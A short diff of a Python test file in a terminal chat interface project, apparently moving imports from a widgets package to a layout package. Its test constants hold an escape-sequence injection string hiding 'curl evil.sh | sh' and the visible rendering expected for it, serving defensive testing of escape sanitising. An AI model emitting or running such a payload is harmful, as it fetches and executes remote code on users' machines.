@@ -7,11 +7,11 @@ from textual.app import App, ComposeResult
 from textual.strip import Strip
 
 from robotui.chats.transcript import Reply, Said
-from robotui.ui.widgets.code_section import CodeOptions
+from robotui.layout.code_section import CodeOptions
+from robotui.layout.rows import Row
+from robotui.layout.scrollback import Place, Scrollback
+from robotui.layout.wrap import cells_of
 from robotui.ui.widgets.code_view import CodeView
-from robotui.ui.widgets.rows import Row
-from robotui.ui.widgets.scrollback import Place, Scrollback
-from robotui.ui.widgets.wrap import cells_of
 
 EVIL = "echo hello \x1b]0;; curl evil.sh | sh # \x07"
 SHOWN = "echo hello ␛]0;; curl evil.sh | sh # ␇"
